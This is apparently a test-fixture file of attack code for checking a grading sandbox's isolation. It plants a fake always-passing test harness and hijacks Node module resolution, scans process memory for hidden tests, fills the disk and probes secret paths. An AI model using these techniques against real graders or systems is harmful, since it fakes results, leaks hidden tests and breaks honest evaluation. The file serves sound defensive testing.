// Solution-cell sources for the structural attacks in adversarial-isolation.test.ts (breach classes 1-5 of
// issue 11). Each reports what it tried through a function the tests call (solution cells' own
// output never reaches the result; a test cell's output does), so a test can check both the
// honest score and that the attempt really ran.

/** A fake harness whose checks never fail, as TypeScript and as CommonJS. */
const FAKE_TS =
  "export function assert(..._a: unknown[]): void {}\n" +
  "export function assertEqual(..._a: unknown[]): void {}\n" +
  "export function assertClose(..._a: unknown[]): void {}\n" +
  'export function passed(n: string): void { console.log("FAKE HARNESS " + n); }\n';
const FAKE_JS =
  "exports.assert = () => {}; exports.assertEqual = () => {}; exports.assertClose = () => {};\n" +
  'exports.passed = (n) => console.log("FAKE HARNESS " + n);\n';

/**
 * Writes the fake harness everywhere it could be looked up, under several names: the kernel's
 * cwd, its temp dir (a sibling of the cwd on the host), HOME, then moves the cwd and NODE_PATH
 * there and plants Node's resolution cache and module cache.
 */
export const PLANT_FAKE_HARNESS = `const fs = require("fs");
const path = require("path");
const T = require("os").tmpdir();
const report: string[] = [];
const fakeTs = ${JSON.stringify(FAKE_TS)};
const fakeJs = ${JSON.stringify(FAKE_JS)};
const put = (file: string, text: string) => {
  try { fs.mkdirSync(path.dirname(file), { recursive: true }); fs.writeFileSync(file, text); report.push("wrote " + file); }
  catch (e) { report.push(file + ":" + (e as any).code); }
};
const kit = process.cwd();
for (const base of [kit, T, T + "/kit"]) {
  put(base + "/tinytorch-ts/support/testing.ts", fakeTs);
  put(base + "/tinytorch-ts/support/testing.js", fakeJs);
  put(base + "/tinytorch-ts/support/testing.tsx", fakeTs);
  put(base + "/node_modules/tinytorch-ts/package.json", JSON.stringify({ name: "tinytorch-ts", exports: { "./*": "./evil.js" }, main: "evil.js" }));
  put(base + "/node_modules/tinytorch-ts/evil.js", fakeJs);
  put(base + "/node_modules/tinytorch-ts/dist/support/testing.js", fakeJs);
  put(base + "/package.json", JSON.stringify({ name: "x", imports: { "#h": "./evil.js" }, exports: { "./tinytorch-ts/support/testing": "./evil.js" } }));
  put(base + "/evil.js", fakeJs);
}
put((process.env.HOME ?? T) + "/.node_modules/tinytorch-ts/support/testing.js", fakeJs);
try { process.chdir(T); report.push("chdir " + T); } catch (e) { report.push("chdir:" + (e as any).code); }
process.env.NODE_PATH = T + "/node_modules";
process.env.HOME = T;
try { (require("module") as any)._initPaths(); report.push("initPaths ran"); } catch { report.push("initPaths refused"); }
const Module = require("module") as any;
for (const dir of [kit, T]) {
  const key = "tinytorch-ts/support/testing\\x00" + Module._nodeModulePaths(dir).join("\\x00");
  try { Module._pathCache[key] = T + "/evil.js"; } catch { report.push("pathCache refused"); }
}
try { (require.cache as any)[T + "/evil.js"] = { id: T + "/evil.js", exports: { assert() {}, assertEqual() {}, passed() {} }, loaded: true }; } catch {}
try { require("vm").runInThisContext("let __tslab__ = { exports: {}, require: () => ({ assert() {}, assertEqual() {}, passed() {} }) };"); report.push("global let ran"); } catch (e) { report.push("global let:" + (e as any).name); }
function double(x: number): number {
  console.log("ATTACK " + report.join("; "));
  return x;
}`;

/** Only the file tslab's side-module table would serve for the harness, in the kernel's cwd. */
export const PLANT_SIDE_MODULE = `const fs = require("fs");
let wrote = "";
try { fs.mkdirSync("tinytorch-ts/support", { recursive: true }); fs.writeFileSync("tinytorch-ts/support/testing.ts", ${JSON.stringify(FAKE_TS)}); wrote = "wrote " + process.cwd() + "/tinytorch-ts/support/testing.ts"; }
catch (e) { wrote = "side module:" + (e as any).code; }
function double(x: number): number { console.log("ATTACK " + wrote); return x; }`;

/** Compiles the planted fake harness into tslab's side-module table by every import path. */
export const IMPORT_FAKE_HARNESS = `const loaded: string[] = [];
const T = require("os").tmpdir();
for (const spec of ["./tinytorch-ts/support/testing", T + "/tinytorch-ts/support/testing", "../tmp/tinytorch-ts/support/testing", "#h", "tinytorch-ts/support/testing", "tinytorch-ts"]) {
  try { const m = require(spec); loaded.push(spec + (typeof m.passed === "function" && String(m.passed).includes("FAKE") ? "=fake" : "=real")); }
  catch (e) { loaded.push(spec + ":" + String((e as any).code ?? (e as any).name)); }
}
function triple(x: number): number {
  console.log("LOADED " + loaded.join("; "));
  return x;
}`;

/** The same, as static imports tslab's compiler resolves (so the side table gets them). */
export const STATIC_IMPORT_FAKE_HARNESS = `import * as viaRelative from "./tinytorch-ts/support/testing";
import * as viaTmp from "../tmp/tinytorch-ts/support/testing";
function triple(x: number): number {
  console.log("STATIC " + typeof viaRelative + typeof viaTmp);
  return x;
}`;

/**
 * Reads the process's own memory through /proc/self/maps and /proc/self/mem (and their
 * relatives), looking for a line of the hidden tests, and prints what it finds zlib-compressed
 * in base64 and in hex. Runs inside triple(), which the later tests call.
 */
export function memoryReader(needle: string): string {
  // Built at run time: the student's own source (which the feedback shows) never holds it.
  const [a, b] = [needle.slice(0, 3), needle.slice(3)];
  return `function triple(x: number): number {
  const needle = ${JSON.stringify(a)} + ${JSON.stringify(b)};
  const fs = require("fs");
  const zlib = require("zlib");
  const report: string[] = [];
  const tryOpen = (p: string) => { try { const fd = fs.openSync(p, "r"); report.push(p + ":open"); return fd; } catch (e) { report.push(p + ":" + (e as any).code); return undefined; } };
  for (const p of ["/proc/self/environ", "/proc/self/pagemap", "/proc/1/mem", "/proc/self/task/" + process.pid + "/mem"]) {
    const fd = tryOpen(p); if (fd !== undefined) fs.closeSync(fd);
  }
  let found = "";
  let maps = "";
  try { maps = fs.readFileSync("/proc/self/maps", "utf8"); } catch (e) { report.push("maps:" + (e as any).code); }
  const fd = tryOpen("/proc/self/mem");
  if (fd !== undefined) {
    const buf = Buffer.alloc(1 << 20);
    let scanned = 0;
    for (const line of maps.split("\\n")) {
      const m = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line);
      if (!m || found || scanned > 600e6 || line.includes("[vvar]") || line.includes("[vsyscall]")) continue;
      for (let at = parseInt(m[1], 16); at < parseInt(m[2], 16) && !found; at += buf.length) {
        let n = 0;
        try { n = fs.readSync(fd, buf, 0, Math.min(buf.length, parseInt(m[2], 16) - at), at); } catch { break; }
        scanned += n;
        const i = buf.subarray(0, n).indexOf(needle);
        if (i >= 0) found = buf.subarray(Math.max(0, i - 200), i + 200).toString("latin1");
      }
    }
    fs.closeSync(fd);
    report.push("scanned " + Math.round(scanned / 1e6) + " MB");
  }
  const packed = zlib.deflateSync(Buffer.from(found || "nothing found"));
  console.log("MEMORY " + report.join("; ") + " b64=" + packed.toString("base64") + " hex=" + packed.toString("hex"));
  return 3 * x;
}`;
}

/** Tries to leave a marker where a later kernel (or the host) would see it. */
export const LEAVE_MARKERS = `const fs = require("fs");
const marks: string[] = [];
for (const p of ["/tmp/tito-marker", "/run/lock/tito-marker", "/dev/shm/tito-marker", "/var/tmp/tito-marker", process.cwd() + "/tito-marker", "/tito-marker"]) {
  try { fs.writeFileSync(p, "left by a student"); marks.push(p + ":written"); } catch (e) { marks.push(p + ":" + (e as any).code); }
}
function double(x: number): number { console.log("MARKS " + marks.join("; ")); return 2 * x; }`;

/** Reports which markers from LEAVE_MARKERS it can see. */
export const LOOK_FOR_MARKERS = `const fs = require("fs");
const seen: string[] = [];
for (const p of ["/tmp/tito-marker", "/run/lock/tito-marker", "/dev/shm/tito-marker", "/var/tmp/tito-marker", process.cwd() + "/tito-marker", "/tito-marker"]) {
  seen.push(p + ":" + (fs.existsSync(p) ? "SEEN" : "absent"));
}
function double(x: number): number { console.log("LOOK " + seen.join("; ")); return 2 * x; }`;

/** Fills the scratch: one huge file, then many small ones, then deep long-named directories. */
export const FILL_THE_DISK = `const fs = require("fs");
const os = require("os");
const out: string[] = [];
const dir = os.tmpdir();
const chunk = Buffer.alloc(8 << 20, 120);
let written = 0;
try {
  const fd = fs.openSync(dir + "/big", "w");
  try { for (let i = 0; i < 512; i++) { fs.writeSync(fd, chunk); written += chunk.length; } } finally { fs.closeSync(fd); }
  out.push("big:no error");
} catch (e) { out.push("big:" + (e as any).code); }
out.push("wrote " + Math.round(written / 1048576) + " MiB");
try { fs.unlinkSync(dir + "/big"); } catch {}
let files = 0;
try { fs.mkdirSync(dir + "/many"); for (; files < 200000; files++) fs.writeFileSync(dir + "/many/" + files, ""); out.push("many:no error"); }
catch (e) { out.push("many:" + (e as any).code); }
out.push("files " + files);
// 30 nested 250-character names, made relative to the cwd: 7.5k characters, past PATH_MAX,
// which is what made a recursive rm throw ENAMETOOLONG.
const home = process.cwd();
let depth = 0;
try {
  process.chdir(dir);
  for (; depth < 30; depth++) { fs.mkdirSync("d".repeat(250)); process.chdir("d".repeat(250)); }
  out.push("deep:no error");
} catch (e) { out.push("deep:" + (e as any).code); }
process.chdir(home);
out.push("depth " + depth);
function double(x: number): number { console.log("FILL " + out.join("; ")); return 2 * x; }`;

/** Lists and reads every other checkout and secret place it can think of. */
export function otherCheckouts(targets: string[]): string {
  return `const fs = require("fs");
const found: string[] = [];
for (const p of ${JSON.stringify(targets)}) {
  try {
    const st = fs.statSync(p);
    found.push(p + "=" + (st.isDirectory() ? fs.readdirSync(p).join(",") || "(empty dir)" : fs.readFileSync(p, "utf8").slice(0, 40)));
  } catch (e) { found.push(p + ":" + (e as any).code); }
}
function double(x: number): number {
  throw new Error("REACHED " + found.filter((f) => f.includes("=")).join(" | ") + " BLOCKED " + found.filter((f) => !f.includes("=")).length);
}`;
}
